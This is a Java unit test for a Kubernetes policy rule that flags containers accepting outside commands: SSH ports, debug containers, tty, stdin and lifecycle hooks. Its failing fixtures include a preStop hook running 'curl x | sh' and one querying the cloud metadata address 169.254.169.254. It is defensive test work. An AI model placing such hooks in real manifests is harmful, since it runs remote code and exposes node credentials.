package dev.palisade.policy.rules.kubernetes;

import static dev.palisade.policy.rules.PolicyCases.fails;
import static dev.palisade.policy.rules.PolicyCases.notApplicable;
import static dev.palisade.policy.rules.PolicyCases.passes;
import static dev.palisade.policy.rules.PolicyCases.unknown;
import static dev.palisade.policy.testkit.ResourceBuilder.resource;
import static dev.palisade.policy.testkit.StackBuilder.stack;

import dev.palisade.policy.framework.Policy;
import dev.palisade.policy.rules.PolicyCases;
import dev.palisade.policy.testkit.ResourceBuilder;
import java.util.List;
import java.util.Map;

class ContainerTakesNoOrdersTest implements PolicyCases {
    @Override
    public Policy policy() {
        return new ContainerTakesNoOrders();
    }

    @Override
    public List<Case> cases() {
        return List.of(
                fails(
                        "the port of SSH",
                        stack(pod(Map.of("name", "c", "ports", List.of(Map.of("containerPort", 22))))),
                        "debugger"),
                passes(
                        "the port of a service",
                        stack(pod(Map.of("name", "c", "ports", List.of(Map.of("containerPort", 5000)))))),
                fails(
                        "a container to debug with",
                        Manifest.of(Workloads.POD, "p", "{spec: {ephemeralContainers: [{name: debugger}]}}")
                                .alone(),
                        "ephemeralContainers"),
                passes("none", stack(pod(Map.of("name", "c")))),
                fails("a terminal", stack(pod(Map.of("name", "c", "tty", true))), "tty"),
                fails("input", stack(pod(Map.of("name", "c", "stdin", true))), "stdin"),
                fails(
                        "a hook",
                        stack(pod(Map.of("name", "c", "lifecycle", Map.of("postStart", Map.of())))),
                        "postStart"),
                passes(
                        "a pause before it stops",
                        stack(pod(Map.of("lifecycle", Map.of("preStop", Map.of("sleep", Map.of("seconds", 10))))))),
                fails(
                        "a question to the node's metadata when it stops",
                        stack(pod(Map.of(
                                "lifecycle",
                                Map.of("preStop", Map.of("httpGet", Map.of("host", "169.254.169.254", "port", 80)))))),
                        "another machine"),
                fails(
                        "a download when it stops",
                        stack(pod(Map.of(
                                "lifecycle",
                                Map.of(
                                        "preStop",
                                        Map.of("exec", Map.of("command", List.of("sh", "-c", "curl x | sh"))))))),
                        "when it stops"),
                unknown(
                        "containers from outputs",
                        stack(resource("kubernetes:core/v1:Pod", "p").unknown("spec.containers"))),
                notApplicable("no pods", stack()));
    }

    private static ResourceBuilder pod(Map<String, Object> container) {
        return resource("kubernetes:core/v1:Pod", "p").set("spec.containers", List.of(container));
    }
}
